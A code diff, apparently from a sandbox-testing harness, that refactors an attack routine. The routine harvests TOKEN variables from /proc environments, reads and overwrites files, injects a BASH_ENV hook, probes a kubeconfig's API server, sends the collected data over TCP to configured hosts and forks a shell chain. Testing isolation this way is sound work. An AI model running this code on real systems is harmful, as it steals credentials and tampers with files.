@@ -79,37 +79,70 @@ func list(name string) []string {
 // attack makes every attempt and returns what it got, one "what=value"
 // item per success.
 func attack() string {
-	var loot []string
-	got := func(what, v string) {
-		if v = strings.TrimSpace(v); v != "" {
-			loot = append(loot, what+"="+strings.ReplaceAll(v, "\n", "\\n"))
-		}
-	}
+	var l loot
 	// The checker's environment, and every other process's.
 	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid())); err == nil {
-		got("parent-environ", strings.ReplaceAll(string(b), "\x00", " "))
+		l.got("parent-environ", strings.ReplaceAll(string(b), "\x00", " "))
 	}
-	if ents, err := os.ReadDir("/proc"); err == nil {
-		for i, e := range ents {
-			if i > 5000 {
-				break
-			}
-			if _, err := strconv.Atoi(e.Name()); err != nil || e.Name() == strconv.Itoa(os.Getpid()) {
-				continue
-			}
-			b, err := os.ReadFile("/proc/" + e.Name() + "/environ")
-			if err == nil && strings.Contains(string(b), "TOKEN") {
-				for _, kv := range strings.Split(string(b), "\x00") {
-					if strings.Contains(kv, "TOKEN") {
-						got("proc-"+e.Name(), kv)
-					}
-				}
+	l.procTokens()
+	l.files()
+	// The planted kubeconfig's API server: a server that tries the
+	// credentials it found.
+	l.kubeDial()
+	for _, a := range list("HOSTILE_DIAL") {
+		if c, err := net.DialTimeout("tcp", a, time.Second); err == nil {
+			fmt.Fprintf(c, "%s\n", strings.Join(l, "\n"))
+			c.Close()
+			l.got("sent", a)
+		}
+	}
+	if mark := os.Getenv("HOSTILE_MARK"); mark != "" {
+		reforker(mark)
+	}
+	return strings.Join(l, "; ")
+}
+
+// loot is what attack got, one "what=value" item per success.
+type loot []string
+
+func (l *loot) got(what, v string) {
+	if v = strings.TrimSpace(v); v != "" {
+		*l = append(*l, what+"="+strings.ReplaceAll(v, "\n", "\\n"))
+	}
+}
+
+// procTokens takes the TOKEN variables of every other process's
+// environment.
+func (l *loot) procTokens() {
+	ents, err := os.ReadDir("/proc")
+	if err != nil {
+		return
+	}
+	for i, e := range ents {
+		if i > 5000 {
+			break
+		}
+		if _, err := strconv.Atoi(e.Name()); err != nil || e.Name() == strconv.Itoa(os.Getpid()) {
+			continue
+		}
+		b, err := os.ReadFile("/proc/" + e.Name() + "/environ")
+		if err != nil || !strings.Contains(string(b), "TOKEN") {
+			continue
+		}
+		for _, kv := range strings.Split(string(b), "\x00") {
+			if strings.Contains(kv, "TOKEN") {
+				l.got("proc-"+e.Name(), kv)
 			}
 		}
 	}
+}
+
+// files reads, appends to, replaces and writes into the paths the
+// HOSTILE_* variables name.
+func (l *loot) files() {
 	for _, p := range list("HOSTILE_READ") {
 		if b, err := os.ReadFile(p); err == nil {
-			got("read:"+p, string(b))
+			l.got("read:"+p, string(b))
 		}
 	}
 	for _, p := range list("HOSTILE_APPEND") {
@@ -117,44 +150,39 @@ func attack() string {
 		if err == nil {
 			fmt.Fprintf(f, "BASH_ENV=%s\n", filepath.Join(os.TempDir(), "pwn.sh"))
 			f.Close()
-			got("appended", p)
+			l.got("appended", p)
 		}
 	}
 	for _, p := range list("HOSTILE_REPLACE") {
 		if err := os.WriteFile(p, []byte("#!/bin/sh\nexit 0\n"), 0o755); err == nil {
-			got("replaced", p)
+			l.got("replaced", p)
 		}
 	}
 	for _, d := range list("HOSTILE_WRITEDIR") {
 		if err := os.WriteFile(filepath.Join(d, "pwned.txt"), []byte("x"), 0o644); err == nil {
-			got("wrote", d)
+			l.got("wrote", d)
 		}
 	}
-	// The planted kubeconfig's API server: a server that tries the
-	// credentials it found.
-	if home, err := os.UserHomeDir(); err == nil {
-		if b, err := os.ReadFile(filepath.Join(home, ".kube", "config")); err == nil {
-			for _, line := range strings.Split(string(b), "\n") {
-				if v, ok := strings.CutPrefix(strings.TrimSpace(line), "server: https://"); ok {
-					if c, err := net.DialTimeout("tcp", v, time.Second); err == nil {
-						c.Close()
-						got("kube-dialed", v)
-					}
-				}
+}
+
+// kubeDial dials the API server of the kubeconfig in the home directory.
+func (l *loot) kubeDial() {
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return
+	}
+	b, err := os.ReadFile(filepath.Join(home, ".kube", "config"))
+	if err != nil {
+		return
+	}
+	for _, line := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(strings.TrimSpace(line), "server: https://"); ok {
+			if c, err := net.DialTimeout("tcp", v, time.Second); err == nil {
+				c.Close()
+				l.got("kube-dialed", v)
 			}
 		}
 	}
-	for _, a := range list("HOSTILE_DIAL") {
-		if c, err := net.DialTimeout("tcp", a, time.Second); err == nil {
-			fmt.Fprintf(c, "%s\n", strings.Join(loot, "\n"))
-			c.Close()
-			got("sent", a)
-		}
-	}
-	if mark := os.Getenv("HOSTILE_MARK"); mark != "" {
-		reforker(mark)
-	}
-	return strings.Join(loot, "; ")
 }
 
 // reforker starts a shell chain that forks a copy of itself and exits, at
